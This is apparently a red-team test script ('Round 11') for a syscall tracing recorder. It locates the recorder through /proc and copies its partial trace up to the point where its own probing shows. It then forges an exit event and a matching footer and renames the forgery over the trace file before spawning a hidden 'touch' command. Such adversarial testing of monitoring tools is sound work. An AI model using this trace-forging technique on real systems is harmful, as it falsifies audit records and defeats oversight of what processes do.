#!/usr/bin/python3
"""Round 11: swap the trace file under the recorder. The recorder writes PATH.partial and
renames it to PATH at the end (the path is in its cmdline). The program copies the trace as it
is so far (the header and the first events, before any line about itself finding the
recorder), adds an exit of the target and a footer whose counts match those lines, and
renames that forgery over PATH.partial: the recorder keeps writing to the inode it opened (now
unlinked), and its final rename puts the forgery in place. Then the program spawns
touch rtm11_out/rtm11_swap. A check of PATH must not say "No processes spawned" held."""
import json
import os
import subprocess
import sys
import time

SCRATCH = "/tmp/redteam-adv11"
OUT = SCRATCH + "/rtm11_out"

if len(sys.argv) > 1 and sys.argv[1] == "prepare":
    os.makedirs(OUT, exist_ok=True)
    sys.exit(0)


def recorder():
    pid = os.getppid()
    for _ in range(8):
        if pid <= 1:
            return 0
        with open(f"/proc/{pid}/comm") as f:
            if f.read().strip() == "tracer":
                return pid
        with open(f"/proc/{pid}/status") as f:
            pid = next(int(l.split()[1]) for l in f if l.startswith("PPid:"))
    return 0


time.sleep(0.3)
rec = recorder()
args = open(f"/proc/{rec}/cmdline", "rb").read().split(b"\0") if rec else []
path = os.fsdecode(args[args.index(b"-o") + 1]) if b"-o" in args else ""
partial = path + ".partial"
swapped = False
if path.endswith("/a11_trace_swap_partial.jsonl") and os.path.exists(partial):
    kept, counts = [], {}
    with open(partial) as f:
        for line in f:
            if not line.endswith("\n"):
                break
            o = json.loads(line)
            if o["type"] == "event":
                # Stop before anything this program did to find the recorder.
                if o["kind"] not in ("exec", "open", "getrandom", "getenv") or "/proc/" in line or ".partial" in line:
                    break
                # A line may stand for several events (`repeat`): the footer counts them all.
                n = (o.get("repeat") or {}).get("count", 1)
                counts[o["kind"]] = counts.get(o["kind"], 0) + n
            kept.append(o)
    header = kept[0]
    events = [o for o in kept[1:] if o["type"] == "event"]
    last = events[-1]
    me = header["target"]["pid"]
    exit_ev = {"type": "event", "seq": last["seq"] + 1, "time": last["time"], "ts_ns": last["ts_ns"] + 1000,
               "pid": me, "tid": me, "ppid": last["ppid"], "comm": last["comm"], "ids": last["ids"],
               "cgroup_id": last["cgroup_id"], "syscall": None, "result": None, "kind": "exit",
               "fields": {"status": 0, "code": 0, "signal": None, "core_dumped": False}}
    counts["exit"] = 1
    kinds = ["accept", "adopt", "bind", "bpf", "capset", "chdir", "chmod", "chown", "chroot", "clock", "close", "compat_syscall", "connect", "crypto", "dup", "exec", "exit", "fd_received", "file_attr", "fork", "getenv", "getrandom", "io_uring_create", "io_uring_op", "io_uring_result", "keyring", "link", "listen", "memfd_create", "mkdir", "mknod", "mlock", "module_load", "mount", "mount_api", "name_to_handle", "open", "pivot_root", "prctl", "privileged_call", "ptrace", "rename", "rmdir", "self_policy", "send", "setgid", "setgroups", "setns", "setuid", "signal", "socket", "sockopt", "symlink", "truncate", "umount", "unlink", "unshare", "utime", "xattr"]
    footer = {"type": "footer", "end_time": last["time"], "duration_ms": 40, "stop_reason": "target_exited",
              "target_exit": {"code": 0, "signal": None}, "events": counts, "lost": {k: 0 for k in kinds},
              "truncated": {}, "unresolved_paths": {}, "malformed": 0, "code_scan": []}
    fake = SCRATCH + "/rtm11_forged_trace"
    with open(fake, "w") as f:
        for o in kept + [exit_ev, footer]:
            f.write(json.dumps(o, separators=(",", ":")) + "\n")
    os.rename(fake, partial)
    swapped = True
time.sleep(0.2)
subprocess.run(["/usr/bin/touch", OUT + "/rtm11_swap"])
print(f"did: trace swapped under the recorder: {'yes' if swapped else 'no'}; then spawned touch; file exists: {'yes' if os.path.exists(OUT + '/rtm11_swap') else 'no'}", flush=True)
